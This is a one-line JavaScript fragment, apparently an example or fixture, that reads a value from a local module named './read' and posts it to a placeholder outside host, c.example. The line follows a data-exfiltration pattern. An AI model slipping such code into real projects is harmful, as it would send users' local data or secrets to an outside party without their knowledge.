axios.post('https://c.example/u', {k: require('./read')})
